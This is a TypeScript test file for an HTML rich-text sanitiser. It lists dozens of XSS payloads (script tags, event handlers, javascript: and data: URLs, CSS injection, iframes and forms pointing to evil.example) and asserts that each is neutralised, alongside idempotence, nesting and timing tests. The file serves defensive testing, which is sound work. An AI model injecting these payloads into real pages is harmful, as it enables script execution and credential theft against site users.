import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { cleanRichText, elementsMax } from './clean-rich-text.ts'
import { linksIn, withoutLinks } from '@matai/kinds'

/** Ways into a page that were used against cleaners of this kind. */
const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/pixel.png">',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>"\\>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java&#9;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6a;avascript&colon;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="blob:https://example.com/1">x</a>',
  '<a href="//evil.example/">x</a>',
  '<a href="\\\\evil.example\\x">x</a>',
  '<a href="https://example.com" onclick="alert(1)">x</a>',
  '<a href="https://example.com" target="_parent" ping="https://evil.example">x</a>',
  '<p onmouseover="alert(1)">x</p>',
  '<p/onclick=alert(1)>x</p>',
  '<p style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">x</p>',
  '<p style="background:url(https://evil.example/x)">x</p>',
  '<p style="background-image:url(javascript:alert(1))">x</p>',
  '<p style="background-color:url(https://evil.example/x)">x</p>',
  '<p style="color:expression(alert(1))">x</p>',
  '<p style="color:red;-moz-binding:url(x)">x</p>',
  '<p style="color:#fff;/**/position:/**/fixed">x</p>',
  '<p style="margin-top:-9999px;transform:scale(50)">x</p>',
  '<p style="color:#fff}body{display:none">x</p>',
  '<p style=\'color:"</style><script>alert(1)</script>"\'>x</p>',
  '<style>*{display:none}</style>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<form action="https://evil.example"><input name=password><button>登录</button></form>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<p id="app" class="dialog" name="location">x</p>',
  '<div style="color:#fff"><dialog open>x</dialog></div>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<ol start="1" type="javascript:alert(1)" onfocus=alert(1)><li>x</li></ol>',
]

const tags = 'p|br|hr|h[1-4]|blockquote|pre|code|ul|ol|li|span|strong|b|em|i|u|s|sub|sup|mark|a'
const colour = '(#[0-9a-f]{3,8}|rgb\\(\\s*\\d+\\s*,\\s*\\d+\\s*,\\s*\\d+\\s*\\))'
const rule = `(color:${colour}|background-color:${colour}|text-align:(left|center|right|justify))`
const attribute = `( style="${rule}(;${rule})*"| start="[^"]*"| rel="noopener noreferrer nofollow"| href="(https?:|tel:|mailto:|[^":]*")[^"]*"?)`
const safeTag = new RegExp(`^<(/?(${tags})|(${tags})${attribute}* ?/?)>$`, 'i')

/** Tags that are left, other than those that can neither act nor cover anything. */
function dangerousTags(html: string): string[] {
  return (html.match(/<[^>]*>?/g) ?? []).filter((tag) => !safeTag.test(tag))
}

describe('cleanRichText', () => {
  it.each(attacks)('takes the sting out of %s', (attack) => {
    const clean = cleanRichText(`<p>之前</p>${attack}<p>之后</p>`)
    expect(dangerousTags(clean)).toEqual([])
    expect(clean).not.toMatch(/(href|src)="\s*(java|vb|data|file|blob|\/\/|\\)/i)
    expect(clean).toContain('之前')
  })

  it('leaves what an editor makes as it is', () => {
    const written = [
      '<h1>标题</h1><h2>小标题</h2><p>一<strong>粗</strong><em>斜</em><u>下</u><s>删</s>H<sub>2</sub>O x<sup>2</sup></p>',
      '<p style="text-align:center"><span style="color:#cf1322">红</span><mark style="background-color:rgb(255, 240, 0)">标</mark></p>',
      '<ul><li><p>甲</p></li></ul><ol start="3"><li><p>乙</p></li></ol><blockquote><p>引</p></blockquote>',
      '<pre><code>a &lt; b &amp;&amp; c</code></pre><hr /><p>一行<br />又一行</p>',
      '<p><a href="https://example.com/?a=1&amp;b=2" rel="noopener noreferrer nofollow">链接</a></p>',
      '<p><a href="tel:+8613900000000" rel="noopener noreferrer nofollow">电话</a></p>',
    ]
    for (const html of written) expect(cleanRichText(html)).toBe(html)
  })

  it('cleans what is clean into itself, so that saving again is no new version', () => {
    const piece = fc.oneof(
      fc.constantFrom(...attacks),
      fc.constantFrom('<p>', '</p>', '<a href="https://e.cn/?a&b">', '</a>', '&lt;', '&', '<', '"', '<ul><li>', '<b>'),
      fc.string({ unit: 'grapheme', maxLength: 8 }),
    )
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 8 }), (pieces) => {
        const once = cleanRichText(pieces.join(''))
        expect(cleanRichText(once)).toBe(once)
        expect(dangerousTags(once)).toEqual([])
      }),
      { numRuns: 1000 },
    )
  })

  it.each([
    ['elements within elements', '<b>'.repeat(33_000), 'nested'],
    ['elements that hide their ends from a count', '<b><i a="</b>">'.repeat(60), 'nested'],
    ['too many elements', '<p></p>'.repeat(elementsMax + 1), 'crowded'],
  ])('refuses %s', (_, html, fault) => {
    expect(() => cleanRichText(html)).toThrow(expect.objectContaining({ fault }))
  })

  it('takes what is nested as deeply as people write', () => {
    const html = `${'<ul><li>'.repeat(20)}x${'</li></ul>'.repeat(20)}`
    expect(cleanRichText(html)).toBe(html)
  })

  it.each([
    ['ends without beginnings', '</b>'.repeat(25_000)],
    ['one long style', `<p style="${'color:#fff;'.repeat(9_000)}">x</p>`],
    ['many styles', '<p style="color:#fff">x</p>'.repeat(3_500)],
    ['half a tag', `<a ${'x='.repeat(49_000)}`],
    ['comments', '<!--'.repeat(25_000)],
  ])('is done soon with the longest text of %s', (_, html) => {
    const start = performance.now()
    cleanRichText(html)
    expect(performance.now() - start).toBeLessThan(15_000)
  })
})

describe('links', () => {
  const html = cleanRichText(
    '<p><a href="https://a.example/?x=1&y=2">a</a> &lt;a href="https://b.example"> <a>c</a></p>',
  )

  it('are read from what was cleaned, and from nothing that only looks like one', () => {
    expect(linksIn(html)).toEqual(['https://a.example/?x=1&y=2'])
  })

  it('are taken out one by one, and what is left is clean', () => {
    expect(withoutLinks(html, () => false)).toBe(html)
    const without = withoutLinks(html, (address) => address.includes('a.example'))
    expect(linksIn(without)).toEqual([])
    expect(cleanRichText(without)).toBe(without)
  })
})
